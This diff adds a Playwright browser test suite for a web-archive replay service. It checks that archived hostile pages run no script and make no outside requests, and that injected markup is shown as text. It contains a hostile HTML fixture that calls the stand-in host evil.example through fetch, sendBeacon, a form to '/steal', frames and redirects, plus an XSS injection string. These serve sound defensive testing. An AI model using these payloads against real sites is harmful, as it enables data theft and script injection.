@@ -1,0 +1,255 @@
+"""In a real browser: hostile pages do nothing, good pages look right, and every request stays on loopback."""
+
+from __future__ import annotations
+
+import contextlib
+import shutil
+import socket
+import threading
+from urllib.parse import urlsplit
+
+import pytest
+from replay_building import SITE, extraction, published, store
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.timeout(300),
+    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: 'make browser-tools' installs it"),
+]
+FLAGS = [
+    "--no-sandbox",
+    "--disable-quic",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--disable-dev-shm-usage",
+]
+HOSTILE = """<!doctype html><html><head><title>Innocent</title>
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<link rel="stylesheet" href="http://evil.example/e.css"><link rel="prefetch" href="http://evil.example/p">
+<link rel="dns-prefetch" href="//evil.example"><style>@import "http://evil.example/i.css"; body{background:url(http://evil.example/b.png)}
+@font-face{font-family:x;src:url(http://evil.example/f.woff2)} h1{font-family:x}
+talkscraper-banner{display:none!important} *{visibility:hidden}</style>
+<script>document.title = "scripted"; fetch("http://evil.example/fetch"); new Image().src = "http://evil.example/img";
+top.location = "http://evil.example/top"; navigator.sendBeacon("http://evil.example/beacon");</script></head>
+<body onload="document.title='handler'"><h1>Harbour</h1><img src="http://evil.example/x.png" onerror="document.title='onerror'">
+<img src="/missing.png" onerror="document.title='onerror'"><iframe src="http://evil.example/frame"></iframe>
+<iframe srcdoc="<script>parent.document.title='srcdoc'</script>"></iframe>
+<form action="http://evil.example/steal"><input name="a" autofocus onfocus="document.title='focus'"><button>send</button></form>
+<svg onload="document.title='svg'"><script>document.title='svgscript'</script></svg>
+<a id="out" href="http://evil.example/out" target="_top" ping="http://evil.example/ping">out</a>
+<a id="js" href="javascript:document.title='href'">js</a><video autoplay src="http://evil.example/v.mp4"></video>
+<object data="http://evil.example/o"></object><embed src="http://evil.example/em">
+<noscript><img src="http://evil.example/noscript.png"></noscript></body></html>"""
+
+
+class Outside:
+    """Stands where the internet would: the browser's proxy for all but loopback. Logs what arrives, answers nothing."""
+
+    def __init__(self):
+        self.arrived: list[bytes] = []
+        self._socket = socket.create_server(("127.0.0.1", 0))
+        self.port = self._socket.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        with contextlib.suppress(OSError):
+            while True:
+                connection, _ = self._socket.accept()
+                with contextlib.closing(connection), contextlib.suppress(OSError):
+                    connection.settimeout(5)
+                    line = connection.recv(4096).split(b"\r\n")[0]
+                    if b".example" in line:
+                        self.arrived.append(line)
+
+    def close(self):
+        self._socket.close()
+
+
+@pytest.fixture(scope="module")
+def outside():
+    proxy = Outside()
+    yield proxy
+    proxy.close()
+
+
+@pytest.fixture(scope="module")
+def browser(outside):
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        started = playwright.chromium.launch(
+            executable_path=CHROMIUM, args=[*FLAGS, f"--proxy-server=http://127.0.0.1:{outside.port}"]
+        )
+        yield started
+        started.close()
+
+
+@pytest.fixture
+def visit(browser, outside):
+    """Opens pages; afterwards nothing may have left for outside, and whatever was asked for was ours or refused."""
+    asked = []
+    errors: list[str] = []
+    outside.arrived.clear()
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.on("request", lambda request: asked.append(request))
+    context.on("weberror", lambda error: errors.append(str(error.error)))
+
+    def open_page(address: str):
+        page = context.new_page()
+        page.goto(address)
+        page.wait_for_load_state("networkidle")
+        return page
+
+    open_page.context = context
+    yield open_page
+    refused = [request.url for request in asked if is_outside(request.url) and request.failure != "csp"]
+    context.close()
+    assert outside.arrived == []
+    assert refused == []
+    assert errors == []
+
+
+def is_outside(url):
+    parts = urlsplit(url)
+    return parts.scheme not in ("data", "blob", "about") and parts.hostname != "127.0.0.1"
+
+
+def test_the_proxy_would_have_seen_what_leaves(browser, outside):
+    """Proof that the check can fail: a page that does ask for outside is caught."""
+    page = browser.new_page()
+    page.set_content('<img src="http://seen.example/x.png">')
+    page.wait_for_timeout(500)
+    page.close()
+    assert any(b"seen.example" in line for line in outside.arrived)
+
+
+def test_a_hostile_page_runs_nothing_and_asks_for_nothing_outside(built, serve, visit):
+    """Script, handlers, refresh, imports, frames, forms, media: the title stays, no request leaves."""
+    built.respond(f"{SITE}/evil", "2025-10-01", HOSTILE)
+    served = serve(built.done())
+    page = visit(f"{served.replay}/web/20251001000000/{SITE}/evil")
+    page.wait_for_timeout(1500)
+    assert page.title() == "Innocent"
+    assert page.url == f"{served.replay}/web/20251001000000/{SITE}/evil"
+    page.locator("#js").evaluate("element => element.click()")
+    page.locator("form button").evaluate("element => element.click()")
+    page.wait_for_timeout(300)
+    assert page.title() == "Innocent"
+    assert page.evaluate("getComputedStyle(document.querySelector('talkscraper-banner')).visibility") == "visible"
+    assert page.evaluate("document.querySelector('talkscraper-banner').getBoundingClientRect().height") > 20
+    page.locator("#out").evaluate("element => element.click()")
+    page.wait_for_load_state("networkidle")
+    assert page.locator("h1").inner_text() == "Not archived"
+
+
+def test_raw_bytes_of_a_hostile_page_run_nothing_either(built, serve, visit):
+    """A reader may open the id_ address in the browser."""
+    built.respond(f"{SITE}/evil", "2025-10-01", HOSTILE)
+    served = serve(built.done())
+    page = visit(f"{served.replay}/web/20251001000000id_/{SITE}/evil")
+    page.wait_for_timeout(500)
+    assert page.title() == "Innocent"
+
+
+def test_archived_content_reaches_neither_the_reading_room_nor_a_cookie(built, serve, visit):
+    """In the frame beside the text: an origin of its own, no parent, no cookie, no storage, no script."""
+    capture = built.respond(f"{SITE}/evil", "2025-10-01", HOSTILE)
+    article_id = store(built, capture, extraction(f"{SITE}/evil", "Evil", "The harbour wall holds."), "quay")
+    served = serve(built.done())
+    visit.context.add_cookies([{"name": "secret", "value": "1", "url": served.room}])
+    page = visit(f"{served.room}/article/{article_id}")
+    page.locator("iframe").scroll_into_view_if_needed()
+    page.wait_for_timeout(1000)
+    assert page.title().startswith("Evil")
+    frame = next(each for each in page.frames if each.url.startswith(served.replay))
+    for expression in ("document.cookie", "parent.document.title", "localStorage.length", "top.location.href"):
+        told = frame.evaluate(f"() => {{ try {{ return String({expression}) }} catch (e) {{ return e.name }} }}")
+        assert told == "SecurityError", expression
+    assert frame.evaluate("() => origin") == "null"
+    assert page.title().startswith("Evil")
+
+
+def test_titles_urls_captions_and_snippets_with_markup_are_shown_as_text(built, serve, visit):
+    """On the front page, in results, on the article's and the record's page: no element of theirs, no script."""
+    from talkscraper.model import Image
+
+    evil = '"><script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">'
+    url = f"{SITE}/posts/1"
+    capture = built.respond(url, "2025-10-01", "<p>x")
+    article_id = store(
+        built,
+        capture,
+        extraction(
+            url,
+            f"harbour {evil}",
+            f"harbour {evil}",
+            section=evil,
+            description=evil,
+            images=(Image(url=f"{SITE}/{evil}", caption=evil),),
+        ),
+        "quay",
+    )
+    served = serve(built.done())
+    record = capture.id.strip("<>").removeprefix("urn:uuid:")
+    for path in (
+        "/",
+        "/?q=harbour",
+        f"/article/{article_id}",
+        f"/capture/{record}",
+        "/?q=%3Cscript%3E&source=%22%3E%3Cscript%3E",
+        "/timeline?q=harbour",
+    ):
+        page = visit(f"{served.room}{path}")
+        assert "owned" not in page.title()
+        assert page.locator("main script").count() == 0
+        assert page.locator("img[onerror]").count() == 0
+
+
+def test_a_good_page_replays_with_styles_pictures_fonts_and_links(built, serve, visit):
+    """Also a picture by revisit, a font for a sandboxed page, and a link that leads to the archived next page."""
+    png = bytes.fromhex(
+        "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a730000000c49444154789c63606060000000040001f61738550000000049454e44ae426082"
+    )
+    page_markup = '<!doctype html><html><head><title>Wall</title><link rel="stylesheet" href="/s.css"></head><body><h1>Harbour</h1><img id="i" src="/i.png"><p><a href="/next">next</a></body></html>'
+    first = built.respond(f"{SITE}/a", "2025-10-01T08:00:00", page_markup, coding="gzip")
+    built.respond(f"{SITE}/s.css", "2025-10-01T08:00:01", "h1{color:rgb(1,2,3)}", mime="text/css", page=first)
+    picture = built.respond(f"{SITE}/i.png", "2025-10-01T08:00:02", png, mime="image/png", page=first)
+    built.respond(f"{SITE}/next", "2025-10-01T08:05:00", "<title>Next</title><h1>Next page</h1>")
+    built.respond(f"{SITE}/a", "2025-10-05T08:00:00", page_markup)
+    built.revisit(picture, "2025-10-05T08:00:02")
+    served = serve(built.done())
+    page = visit(f"{served.replay}/web/20251005/{SITE}/a")
+    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
+    assert page.evaluate("document.getElementById('i').naturalWidth") == 2
+    page.click("text=next")
+    page.wait_for_load_state("networkidle")
+    assert page.title() == "Next"
+    assert page.url == f"{served.replay}/web/20251001080500/{SITE}/next"
+
+
+def test_the_reading_room_is_usable_by_keyboard_and_without_scripts(built, serve, browser):
+    """Without JavaScript: search, open an article, compare revisions."""
+    url = f"{SITE}/posts/1"
+    for number, day in ((12, "2025-10-01"), (21, "2025-10-02")):
+        text = f"The harbour wall holds.\n\nEngineers counted {number} cracks."
+        capture = built.respond(url, day, f"<p>{text}")
+        store(built, capture, extraction(url, "Wall holds", text, published=published("2025-10-01")), "quay")
+    served = serve(built.done())
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(f"{served.room}/")
+    page.keyboard.press("Tab")
+    assert page.locator("input[type=search]").count() == 1
+    page.fill("input[type=search]", "harbour")
+    page.keyboard.press("Enter")
+    page.wait_for_load_state()
+    page.click("text=Wall holds")
+    page.wait_for_load_state()
+    page.click("text=Compare")
+    page.wait_for_load_state()
+    assert page.locator("del").inner_text().strip() == "12"
+    assert page.locator("ins").nth(1).inner_text().strip() == "21"
+    context.close()
